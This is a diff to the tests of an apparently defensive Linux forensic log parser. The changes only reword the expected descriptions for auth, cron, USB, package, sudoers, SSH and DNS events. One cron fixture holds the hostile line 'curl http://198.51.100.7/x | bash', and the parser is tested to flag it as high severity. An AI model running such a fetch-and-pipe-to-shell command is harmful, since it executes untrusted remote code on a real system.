@@ -60,18 +60,18 @@ def test_auth_log(run):
         "failed_login"]
     first = rows[0]
     assert (first.actor_user, first.source_ip, first.severity) == ("carol", "198.51.100.20", "low")
-    assert first.description == "Failed password for carol from 198.51.100.20"
+    assert first.description == "Wrong password for carol, coming from 198.51.100.20"
     assert str(first.timestamp_utc) == "2024-01-05 01:02:03" and first.timestamp_confidence == "year_inferred"
     assert first.notes == "grammar:sshd_failed_password" and first.raw_line_offset == 0
     assert rows[1].raw_line_offset == len(AUTH.split("\n")[0]) + 1
     # The operator's address outside and inside the window, and the operator's account inside it.
     assert [r.tool_generated_flag for r in rows[2:5]] == [False, True, True]
-    assert rows[4].description == "opuser ran a command as root: /bin/ls -l"
-    assert rows[5].description == "carol failed sudo authentication (3 incorrect attempts)"
-    assert rows[6].description == "User carol was added to group sudo"
+    assert rows[4].description == "opuser, acting as root, ran: /bin/ls -l"
+    assert rows[5].description == "sudo refused carol after 3 wrong passwords"
+    assert rows[6].description == "carol joined group sudo"
     assert rows[7].actor_user == "kali"
     assert (rows[8].actor_uid, rows[8].description) == (
-        1005, "New account created: eve (uid=1005, home=/home/eve, shell=/bin/bash)".replace("/bash)", "/bash,)"))
+        1005, "Account eve made (uid=1005, home=/home/eve, shell=/bin/bash)".replace("/bash)", "/bash,)"))
     # December is before the file's January mtime.
     assert str(rows[9].timestamp_utc) == "2023-12-31 23:59:59"
     assert rows[10].source_ip == "" and rows[10].actor_user == "root"
@@ -99,8 +99,8 @@ def test_cron_log(run):
     bad = rows[2]
     assert bad.raw_line == "curl http://198.51.100.7/x | bash" and bad.severity == "high"
     assert bad.raw_line_offset == text.index("curl")
-    assert "pipes downloaded content straight into a shell" in bad.description
-    assert rows[3].description == "ann replaced the crontab of root using crontab(1) (REPLACE)"
+    assert "feeds a download to a shell" in bad.description
+    assert rows[3].description == "ann replaced the crontab of root (REPLACE)"
     assert rows[4].description == "anacron job cron.daily started"
 
 
@@ -175,7 +175,7 @@ def test_usb(run):
         k % (6, 1), "usb 2-1: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00\n",
         k % (6, 1), "usb 2-1: Product: Cruzer\n", k % (6, 1), "usb 2-1: Manufacturer: SanDisk\n",
         k % (6, 1), "usb 2-1: SerialNumber: 4C53\n",
-        k % (6, 2), "usb-storage 2-1:1.0: USB Mass Storage device detected\n",
+        k % (6, 2), "usb-storage 2-1:1.0: It is a mass storage device\n",
         k % (6, 3), "sd 6:0:0:0: [sdb] Attached SCSI removable disk\n",
         k % (9, 5), "usb 2-1: USB disconnect, device number 3\n",
         k % (9, 6), "usb 1-4: USB disconnect, device number 9\n",
@@ -185,10 +185,10 @@ def test_usb(run):
     assert kinds(rows) == ["usb_connect", "usb_disconnect", "usb_disconnect", "usb_connect"]
     assert rows[0].description == ("USB device attached on port 2-1: SanDisk Cruzer idVendor=0781 idProduct=5567 "
                                    "0781 5567 serial=4C53")
-    assert (rows[0].severity, rows[0].notes) == ("medium", "USB Mass Storage device detected")
+    assert (rows[0].severity, rows[0].notes) == ("medium", "It is a mass storage device")
     assert rows[1].description == "USB device SanDisk Cruzer on port 2-1 disconnected after 3m 5s"
-    assert rows[2].notes == "no matching connect event found in log"
-    assert rows[3].notes == "Device was not disconnected during log window (still attached)"
+    assert rows[2].notes == "its connection is not in the log"
+    assert rows[3].notes == "No removal in the log"
 
 
 def test_packages(run):
@@ -216,7 +216,7 @@ def test_packages(run):
     assert (two.severity, two.actor_user, two.actor_uid) == ("high", "root", 0)
     assert "(no command line recorded) [upgrade 1, purge 1]" in two.description
     assert by["Install: liblua:amd64 (5.3, automatic)"].description == (
-        "Package liblua:amd64 installed by apt (version 5.3) (pulled in automatically as a dependency)")
+        "Package liblua:amd64 installed by apt (version 5.3) (as a dependency)")
     assert by["Upgrade: tree:amd64 (1.0, 2.0)"].description == (
         "Package tree:amd64 upgraded from 1.0 to 2.0 by apt")
     rows = run("dnf_parser", {"var/log/dnf.rpm.log": (
@@ -291,8 +291,8 @@ def test_sudoers(run):
     assert rows[3].description == "Cmnd_Alias NET defined as: /sbin/ip, /sbin/route"
     assert rows[3].raw_line_offset == text.index("Cmnd_Alias")
     assert rows[5].raw_line.startswith("[%ops] ann, %ops") and rows[5].notes == "runas=root hosts=ALL"
-    assert rows[6].description == ("sudoers: user ann may run /bin/ls as root on ALL without being asked for a "
-                                   "password [tags: NOPASSWD]")
+    assert rows[6].description == ("sudoers: user ann may run /bin/ls as root on ALL with no password "
+                                   "[tags: NOPASSWD]")
 
 
 def test_crontabs(run):
@@ -354,8 +354,8 @@ def test_ssh_and_startup_files(run):
         ("unparsable_key_line", "low")]
     assert rows[0].description.startswith(
         f"ssh-ed25519 key authorized for login as ann: fingerprint {print_text} comment 'ann@pc' (file mtime")
-    assert ' options command="do a thing",no-pty [forced command' in rows[1].description
-    assert rows[2].description.startswith("Line 4 of home/ann/.ssh/authorized_keys is not")
+    assert ' options command="do a thing",no-pty [bound to one command' in rows[1].description
+    assert rows[2].description.startswith("Line 4 of home/ann/.ssh/authorized_keys could not be read")
     rows = run("knownhosts_parser", {"root/.ssh/known_hosts": (
         "|1|a=|b= ssh-rsa AAAA\n[198.51.100.3]:2222,alias ssh-rsa AAAA\n@revoked gw.example ssh-dss AAAA\n2001:db8::1 x y\n")})
     assert [(r.subcategory, r.source_ip, r.source_host) for r in rows] == [
@@ -376,9 +376,9 @@ def test_snapshots(run):
     rows = run("dns_parser", {"etc/resolv.conf": "; c\nnameserver 192.0.2.1\nsearch a.example b.example\n",
                               "etc/hosts": "127.0.0.1  localhost  lo # x\n# y\n"})
     assert [(r.subcategory, r.description) for r in rows] == [
-        ("dns_mapping", "Static DNS host resolution: 127.0.0.1 -> localhost lo"),
-        ("dns_nameserver", "Configured DNS nameserver resolver: 192.0.2.1"),
-        ("dns_search", "Configured DNS search domains: a.example b.example")]
+        ("dns_mapping", "Fixed host name: 127.0.0.1 -> localhost lo"),
+        ("dns_nameserver", "Name server in use: 192.0.2.1"),
+        ("dns_search", "Search domains in use: a.example b.example")]
     rows = run("storage_parser", {
         "etc/fstab": "UUID=ab / ext4 defaults 0 1\nx y\n",
         "volatile/lsblk.txt": "junk\nNAME FSTYPE MOUNTPOINT\nsda\n├─sda1 ext4 /\n",
